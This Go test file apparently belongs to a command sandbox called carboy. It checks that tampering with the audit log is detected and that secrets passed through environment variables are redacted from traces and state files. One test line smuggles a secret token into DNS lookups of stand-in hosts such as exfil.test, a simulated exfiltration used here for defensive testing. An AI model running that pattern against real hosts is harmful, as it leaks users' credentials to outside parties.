package hostile

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/carboy/carboy"
	"github.com/carboy/carboy/internal/trace"
)

// TestA1TamperedLog: the log of real runs tells when it was touched.
func TestA1TamperedLog(t *testing.T) {
	h := newHost(t)
	for range 2 {
		h.run(nil, "/bin/sh", "-c", "getent hosts refused.test; true").exited(0)
	}
	if rep, err := h.client.AuditVerify(t.Context(), ""); err != nil || !rep.OK() {
		t.Fatalf("a log that nobody touched: %+v %v", rep, err)
	}
	var files []string
	filepath.Walk(h.client.AuditDir(), func(path string, fi os.FileInfo, err error) error {
		if err == nil && fi.Mode().IsRegular() && fi.Size() > 0 && !strings.Contains(path, "lock") {
			files = append(files, path)
		}
		return nil
	})
	tampered := 0
	for _, f := range files {
		whole, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		if !strings.Contains(string(whole), "refused") {
			continue // keys and signatures: internal/audit has tests for each
		}
		tampered++
		for name, bad := range map[string]string{
			"an edited word":   strings.Replace(string(whole), "refused.test", "allowed.test", 1),
			"a deleted record": cutLine(string(whole), 1),
			"a cut end":        cutLine(string(whole), -1),
		} {
			if err := os.WriteFile(f, []byte(bad), 0o600); err != nil {
				t.Fatal(err)
			}
			if rep, err := h.client.AuditVerify(t.Context(), ""); err == nil && rep.OK() {
				t.Errorf("%s of %s goes unnoticed: %+v", name, filepath.Base(f), rep)
			}
		}
		if err := os.WriteFile(f, whole, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	if tampered == 0 {
		t.Errorf("no file with records among %q", files)
	}
	if rep, err := h.client.AuditVerify(t.Context(), ""); err != nil || !rep.OK() {
		t.Errorf("the log, put right again: %+v %v", rep, err)
	}
}

// cutLine removes line n, or the last with -1.
func cutLine(s string, n int) string {
	lines := strings.SplitAfter(strings.TrimSuffix(s, "\n"), "\n")
	if n < 0 {
		n = len(lines) - 1
	}
	return strings.Join(append(append([]string{}, lines[:n]...), lines[n+1:]...), "")
}

// TestA2NoSecretInRecords: a secret that the user hands to the command is in
// the command's own output and nowhere else.
func TestA2NoSecretInRecords(t *testing.T) {
	h := newHost(t)
	const secret = "s3cr3t-Zq81xkLmP04"
	h.vars["INHERITED_API_KEY"] = secret + "-inherited"
	x := h.run(func(o *carboy.RunOptions) { o.Env = []string{"MY_TOKEN=" + secret, "INHERITED_API_KEY"} },
		"/bin/sh", "-c", "getent hosts "+strings.ToLower(secret)+".exfil.test; getent hosts $MY_TOKEN.exfil2.test; test \"$INHERITED_API_KEY\" = "+secret+"-inherited && echo works")
	x.exited(0)
	if x.out != "works\n" {
		t.Errorf("output %q", x.out)
	}
	// The trace is packed: a search of the bytes would find nothing there.
	named := false
	err := readTrace(h.client, x.rec.ID, func(f *trace.Fact) {
		text := strings.Join(append(f.Args, f.Path, f.Path2), "\n")
		if strings.Contains(strings.ToLower(text), strings.ToLower(secret)) {
			t.Errorf("the trace holds the secret: %q", text)
		}
		named = named || strings.Contains(text, "[redacted:my_token].exfil2.test")
	})
	if err != nil || !named {
		t.Errorf("the trace does not say that something was put in the secret's place: %v", err)
	}
	filepath.Walk(h.client.StateDir(), func(path string, fi os.FileInfo, err error) error {
		if err != nil || !fi.Mode().IsRegular() || strings.Contains(path, "/logs/") {
			return nil
		}
		b, err := os.ReadFile(path)
		if err != nil {
			t.Error(err)
		}
		if strings.Contains(string(b), secret) {
			t.Errorf("%s holds the secret", path)
		}
		return nil
	})
}
